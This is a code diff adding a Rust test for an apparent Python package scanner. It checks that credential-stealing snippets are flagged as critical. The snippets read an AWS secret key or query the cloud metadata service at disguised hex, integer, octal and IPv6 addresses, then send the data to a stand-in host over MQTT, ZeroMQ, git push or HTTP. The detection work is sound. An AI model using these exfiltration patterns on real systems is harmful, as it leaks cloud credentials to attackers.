@@ -831,3 +831,44 @@ fn setup_py_command_classes_run_at_install_however_they_are_handed_over() {
         "import subprocess\nfrom setuptools import setup, Extension\nfrom setuptools.command.build_ext import build_ext\nclass CMakeBuild(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '-S', '.', '-B', 'build'])\n        super().run()\nsetup(name='x', ext_modules=[Extension('x', [])], cmdclass={'build_ext': CMakeBuild})\n",
     )]);
 }
+
+/// A client made first and used later (`c = mqtt.Client()` then `c.publish(…)`, `s =
+/// zmq.Context().socket(zmq.PUSH)` then `s.send_string(…)`), and `git push` to a remote named
+/// by its URL, carry a secret out (tester t18 c01, c07, c17); the cloud metadata address
+/// spelled as an integer, hex, octal or IPv6 address is the credential source (t18 st16b).
+#[test]
+fn clients_made_first_git_push_urls_and_disguised_metadata_addresses_are_stealers() {
+    let cases = [
+        "import os\nimport paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('c.example.invalid', 1883)\nc.publish('t', os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+        "import os, zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect('tcp://c.example.invalid:5555')\ns.send_string(os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+        "import os, subprocess\nopen('k', 'w').write(os.environ['AWS_SECRET_ACCESS_KEY'])\nsubprocess.run(['git', 'push', 'https://c.example.invalid/r.git', 'HEAD:main'])\n",
+        "import requests\nr = requests.get('http://0xa9fea9fe/latest/api/token')\nrequests.post('https://c.example.invalid/c', data=r.text)\n",
+        "import requests\nr = requests.put('http://2852039166', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'})\nrequests.post('https://c.example.invalid/c', data=r.text)\n",
+        "import urllib.request\nd = urllib.request.urlopen('http://0251.0376.0251.0376/latest/meta-data/').read()\nurllib.request.urlopen('https://c.example.invalid/c', data=d)\n",
+        "import requests\nd = requests.get('http://[::ffff:a9fe:a9fe]/').text\nrequests.post('https://c.example.invalid/c', data=d)\n",
+    ];
+    let mut failures = Vec::new();
+    for (i, src) in cases.iter().enumerate() {
+        let r = pysrc::scan(&format!("k{i}/__init__.py"), src);
+        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
+            failures.push(format!("{src}\n{:?}", summary(&r)));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+    // Telemetry published inside a function, a push to the configured remote, and ordinary
+    // addresses (a version string, a private network) stay below medium.
+    pysrc::benign(&[
+        (
+            "t1/__init__.py",
+            "import json\nimport paho.mqtt.client as mqtt\ndef report(v):\n    c = mqtt.Client()\n    c.connect('broker.example.invalid', 1883)\n    c.publish('telemetry', json.dumps({'v': v}))\n",
+        ),
+        (
+            "t2/release.py",
+            "import subprocess\ndef release():\n    subprocess.run(['git', 'push', 'origin', 'main'])\n",
+        ),
+        (
+            "t3/__init__.py",
+            "import requests\nURLS = ['http://10.0.0.1/', 'http://2130706433/', 'http://0x7f000001/health']\ndef ping():\n    return [requests.get(u) for u in URLS]\n",
+        ),
+    ]);
+}
